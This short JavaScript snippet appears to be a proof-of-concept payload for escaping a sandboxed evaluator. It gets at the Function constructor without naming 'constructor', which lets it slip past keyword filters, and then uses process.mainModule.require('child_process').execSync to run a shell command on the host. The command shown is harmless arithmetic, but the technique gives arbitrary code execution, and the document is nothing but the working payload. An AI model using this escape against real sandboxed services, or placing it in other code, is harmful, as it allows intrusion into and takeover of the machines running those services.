const ks=Object.getOwnPropertyNames(Object.prototype); const k=ks[0];
const a=''[k]; const F=a[k]; F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
